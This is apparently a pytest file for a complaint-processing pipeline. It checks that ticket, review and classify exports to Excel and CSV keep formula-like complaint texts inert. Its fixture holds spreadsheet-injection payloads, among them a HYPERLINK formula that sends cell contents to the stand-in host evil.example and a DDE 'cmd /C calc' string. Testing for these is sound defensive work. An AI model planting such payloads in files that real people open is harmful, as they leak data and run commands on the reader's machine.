"""Files people open in Excel: complaint texts that look like formulas stay text in every export
(tickets, review, classify output), read back with openpyxl and the csv module."""
from __future__ import annotations

import csv

import pandas as pd
import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from pipeline.cli.app import app
from pipeline.text.normalise import mask_pii
from pipeline.delivery.spreadsheet import EXCEL_MAX_CELL_CHARS, FORMULA_STARTS, unguard_cell, write_table
from ticket_helpers import process_file, write_complaints

runner = CliRunner()

HOSTILE = [
    # id, text, created_at, channel, store, customer_id
    ("=1+1", '=HYPERLINK("http://evil.example/?q="&A1,"点击查看订单")服务员态度很差', "2026-11-01 10:00", "app", "=店", "U1"),
    ("H2", "+86 服务员说话很难听，还骂人", "2026-11-01 11:00", "-web", "+店", "U2"),
    ("H3", "-1 空调坏了，网络也连不上", "2026-11-01 12:00", "@hotline", "@店", "U3"),
    ("H4", "@SUM(1+1)*cmd|' /C calc'!A0 排队两个小时没人管", "2026-11-01 13:00", "app", "店", "U4"),
    ("H5", "\t=2+3 快递送错了地址，客服也不处理", "2026-11-01 14:00", "app", "店", "U5"),
]


@pytest.fixture
def hostile_store(lexicon_settings, tmp_path):
    process_file(lexicon_settings, write_complaints(tmp_path / "hostile.csv", HOSTILE))
    return lexicon_settings


def cli(settings, *args):
    return runner.invoke(app, [*args, "--work-dir", str(settings.work_dir)])


def formula_cells(path) -> list[str]:
    workbook = load_workbook(path)  # not read-only: data_type is the cell's stored type
    return [f"{sheet.title}!{cell.coordinate}" for sheet in workbook.worksheets for row in sheet.iter_rows()
            for cell in row if cell.data_type == "f"]


def csv_cells(path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def assert_csv_cannot_run(path) -> None:
    runnable = [cell for row in csv_cells(path) for cell in row if cell.startswith(FORMULA_STARTS)]
    assert runnable == []


def test_ticket_exports_keep_formula_like_texts_as_text(hostile_store, tmp_path):
    for suffix in ("xlsx", "csv"):
        result = cli(hostile_store, "tickets", "export", "--output", str(tmp_path / f"tickets.{suffix}"))
        assert result.exit_code == 0, result.output

    workbook = tmp_path / "tickets.xlsx"
    assert formula_cells(workbook) == []
    exported = pd.read_excel(workbook, dtype=str).set_index("complaint_id")
    for complaint_id, text, *_ in HOSTILE:
        assert exported.loc[complaint_id, "text"] == mask_pii(text)  # readable, exactly the stored text

    table = csv_cells(tmp_path / "tickets.csv")
    assert_csv_cannot_run(tmp_path / "tickets.csv")
    header = table[0]
    texts = {unguard_cell(row[header.index("complaint_id")]): row[header.index("text")] for row in table[1:]}
    assert texts["=1+1"] == "'" + mask_pii(HOSTILE[0][1])  # the apostrophe Excel shows, then the text
    assert {cid: unguard_cell(text) for cid, text in texts.items()} == {h[0]: mask_pii(h[1]) for h in HOSTILE}


@pytest.mark.slow
def test_review_export_is_safe_and_its_csv_imports_back(hostile_store, tmp_path):
    for suffix in ("xlsx", "csv"):
        result = cli(hostile_store, "review", "export", "--include-reviewed", "--output",
                     str(tmp_path / f"review.{suffix}"))
        assert result.exit_code == 0, result.output
    assert formula_cells(tmp_path / "review.xlsx") == []
    assert_csv_cannot_run(tmp_path / "review.csv")

    # people fill in the CSV; the guarded id "'=1+1" still names the stored complaint "=1+1"
    filled = pd.read_csv(tmp_path / "review.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    filled["cause"], filled["reviewer"] = "personnel", "王芳"
    filled.to_csv(tmp_path / "review.csv", index=False, encoding="utf-8-sig")
    result = cli(hostile_store, "review", "import", str(tmp_path / "review.csv"))
    assert result.exit_code == 0, result.output
    assert f"imported {len(filled)}" in result.output


def test_classify_output_in_excel_and_csv_is_safe(lexicon_settings, tmp_path):
    source = write_complaints(tmp_path / "hostile.csv", HOSTILE)
    for suffix in ("xlsx", "csv"):
        output = tmp_path / f"classified.{suffix}"
        result = runner.invoke(app, ["classify", "--input", str(source), "--output", str(output), "--lexicon"])
        assert result.exit_code == 0, result.output
    assert formula_cells(tmp_path / "classified.xlsx") == []
    assert pd.read_excel(tmp_path / "classified.xlsx", dtype=str)["id"].tolist() == [h[0] for h in HOSTILE]
    assert_csv_cannot_run(tmp_path / "classified.csv")


def test_a_text_longer_than_an_excel_cell_is_cut_visibly_not_broken(tmp_path):
    long_text = "=" + "很" * 40_000
    write_table(pd.DataFrame({"id": ["L1"], "text": [long_text]}), tmp_path / "long.xlsx")
    cell = load_workbook(tmp_path / "long.xlsx").active["B2"]
    assert cell.data_type == "s" and len(cell.value) == EXCEL_MAX_CELL_CHARS
    assert cell.value.startswith("=很很") and cell.value.endswith("[cut: 40001 characters]")
